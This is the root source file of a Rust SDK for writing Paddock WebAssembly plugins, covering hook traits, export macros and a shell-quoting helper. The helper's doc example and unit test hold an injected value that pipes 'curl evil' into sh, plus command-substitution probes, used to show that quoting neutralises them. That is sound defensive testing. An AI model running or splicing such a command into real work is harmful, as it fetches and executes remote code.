//! # Paddock guest SDK
//!
//! Write a Paddock plugin in Rust: implement the `Guest` trait of each hook
//! you provide, and name those hooks once in [`export_hooks!`]. The hooks
//! are grouped by the tool they come from ([`orbit`], [`racetrack`],
//! [`tutor`]); what
//! they share (the plugin's context, the deployment, reports, errors,
//! logging) is in [`common`]. The component exports exactly the hooks you
//! name, so the host skips every other hook without instantiating the
//! plugin.
//!
//! A complete plugin (`src/lib.rs` of a crate with `crate-type = ["cdylib"]`),
//! built with `paddock bundle` or `cargo build --release --target wasm32-wasip2`:
//!
//! ```
//! use paddock_guest::common::{Deployment, HookResult, PluginContext, log};
//! use paddock_guest::{export_hooks, orbit, shell};
//!
//! struct HelloWorld;
//!
//! impl orbit::dockerfile_injection::Guest for HelloWorld {
//!     fn dockerfile_injection(plugin: PluginContext, deployment: Deployment) -> HookResult<Vec<String>> {
//!         log::info(&format!("injecting for team {}", deployment.team));
//!         let greeting = shell::quote(plugin.text("greeting").unwrap_or("Hello World!"));
//!         Ok(vec![format!("RUN echo {greeting} > /home/jovyan/hello-world-plugin.txt")])
//!     }
//! }
//!
//! export_hooks!(HelloWorld: orbit::dockerfile_injection);
//! # fn main() {}
//! ```
//!
//! A hook fails by returning [`common::HookError::failed`]; the host
//! reports the message with the plugin's name, version and the hook. A
//! panic also fails the hook, and its message reaches the host, but a
//! returned error is the polite way.
//!
//! Parameters come from whoever configures the plugin: put them into
//! commands through [`shell::quote`], never bare.
//!
//! Digital Rebar providers are long-lived components rather than hooks:
//! see [`rebar`] and [`export_provider!`].
//!
//! ## Plugins for 0.1.0
//!
//! Plugins written against `paddock:plugin@0.1.0` implement [`Plugin`]
//! (every hook has a default that reports "not implemented") and call
//! [`export_plugin!`]; their component exports all five hooks. They keep
//! building and loading unchanged, and run in one set with 0.2 plugins.

#![deny(missing_docs)]

#[macro_use]
mod helpers;

pub mod common;
pub mod devstack;
pub mod orbit;
pub mod racetrack;
pub mod rebar;
pub mod tutor;

#[doc(hidden)]
pub mod __bindings {
    wit_bindgen::generate!({
        path: "../wit",
        world: "plugin",
        pub_export_macro: true,
        export_macro_name: "__export_paddock_world",
        additional_derives: [PartialEq],
    });
}

pub use __bindings::paddock::plugin::types::{ActionReport, Deployment, HookContext, HookError, ParamValue};

/// What every hook returns.
pub type HookResult<T> = Result<T, HookError>;

/// A Paddock plugin. Every hook has a default that reports "not implemented";
/// override the ones your plugin provides.
pub trait Plugin {
    /// Supplementary actions when a deployment is created.
    fn deploy(ctx: &HookContext) -> HookResult<ActionReport> {
        let _ = ctx;
        Err(HookError::NotImplemented)
    }

    /// Supplementary actions when a deployment is removed.
    fn destroy(ctx: &HookContext) -> HookResult<ActionReport> {
        let _ = ctx;
        Err(HookError::NotImplemented)
    }

    /// Dockerfile instructions to add to the image, one per item.
    fn dockerfile_injection(ctx: &HookContext) -> HookResult<Vec<String>> {
        let _ = ctx;
        Err(HookError::NotImplemented)
    }

    /// A shell script to run when the deployment boots, if any.
    fn bootstrap_injection(ctx: &HookContext) -> HookResult<Option<String>> {
        let _ = ctx;
        Err(HookError::NotImplemented)
    }

    /// Environment variables for the job's runtime.
    fn job_runtime_env_vars(ctx: &HookContext) -> HookResult<Vec<(String, String)>> {
        let _ = ctx;
        Err(HookError::NotImplemented)
    }
}

context_helpers!(HookContext, HookError, ActionReport, ParamValue);

/// Structured logging to the host, which prints it under the plugin's name.
pub mod log {
    log_functions!(crate::__bindings::paddock::plugin::logging);
}

/// Putting values into shell commands: `RUN` lines in shell form and
/// bootstrap scripts.
pub mod shell {
    /// `word` as a single POSIX shell word.
    ///
    /// Inside single quotes every character is literal, so the word is
    /// wrapped in them and each `'` in it becomes `'\''` (close the quotes,
    /// an escaped quote, reopen). However hostile the word, the shell sees
    /// one argument and runs nothing from it. Quote every parameter and
    /// deployment field you put into a command, never splice it in bare.
    ///
    /// ```
    /// use paddock_guest::shell;
    ///
    /// assert_eq!(shell::quote("Hello World!"), "'Hello World!'");
    /// let greeting = "x'; curl evil | sh; echo '";
    /// let line = format!("RUN echo {} > /tmp/greeting.txt", shell::quote(greeting));
    /// assert_eq!(line, r"RUN echo 'x'\''; curl evil | sh; echo '\''' > /tmp/greeting.txt");
    /// ```
    ///
    /// The host still refuses a Dockerfile line holding a line break or
    /// `<<` (a heredoc to BuildKit), quoted or not: a value with either fails
    /// the hook rather than reaching the Dockerfile.
    pub fn quote(word: &str) -> String {
        format!("'{}'", word.replace('\'', r"'\''"))
    }

    #[cfg(test)]
    mod tests {
        #[test]
        fn a_quoted_word_reaches_the_shell_as_one_argument() {
            let hostile = ["x'; curl evil | sh; echo '", "$(id) `id` ${HOME} \\ \" * ? ~ # -n"];
            for word in ["", "plain", "it's", "'", "''"].into_iter().chain(hostile) {
                let script = format!("printf '%s|' {}", super::quote(word));
                let output = std::process::Command::new("sh").args(["-c", &script]).output().expect("run sh");
                assert_eq!(String::from_utf8(output.stdout).unwrap(), format!("{word}|"), "{script}");
            }
        }
    }
}

/// Exports a [`Plugin`] implementation as the plugin's component. Call it
/// once, at the root of the plugin crate.
#[macro_export]
macro_rules! export_plugin {
    ($plugin:ty) => {
        #[doc(hidden)]
        pub struct __PaddockExports;

        impl $crate::__bindings::exports::paddock::plugin::hooks::Guest for __PaddockExports {
            fn deploy(ctx: $crate::HookContext) -> $crate::HookResult<$crate::ActionReport> {
                <$plugin as $crate::Plugin>::deploy(&ctx)
            }
            fn destroy(ctx: $crate::HookContext) -> $crate::HookResult<$crate::ActionReport> {
                <$plugin as $crate::Plugin>::destroy(&ctx)
            }
            fn dockerfile_injection(ctx: $crate::HookContext) -> $crate::HookResult<::std::vec::Vec<::std::string::String>> {
                <$plugin as $crate::Plugin>::dockerfile_injection(&ctx)
            }
            fn bootstrap_injection(ctx: $crate::HookContext) -> $crate::HookResult<::std::option::Option<::std::string::String>> {
                <$plugin as $crate::Plugin>::bootstrap_injection(&ctx)
            }
            fn job_runtime_env_vars(
                ctx: $crate::HookContext,
            ) -> $crate::HookResult<::std::vec::Vec<(::std::string::String, ::std::string::String)>> {
                <$plugin as $crate::Plugin>::job_runtime_env_vars(&ctx)
            }
        }

        $crate::__bindings::__export_paddock_world!(__PaddockExports with_types_in $crate::__bindings);
    };
}

/// Exports a plugin type as the component's implementation of the 0.2
/// hooks it names, and of nothing else: the component exports exactly
/// those interfaces, so the host skips every other hook without
/// instantiating the plugin. Call it once, at the root of the plugin crate,
/// e.g. `export_hooks!(MyPlugin: orbit::dockerfile_injection, racetrack::job_runtime_env_vars)`
/// (see the crate docs for a whole plugin).
#[macro_export]
macro_rules! export_hooks {
    ($plugin:ident: $($tool:ident::$hook:ident),+ $(,)?) => {
        $(
            $crate::$tool::$hook::__bindings::export!($plugin with_types_in $crate::$tool::$hook::__bindings);
        )+
    };
}
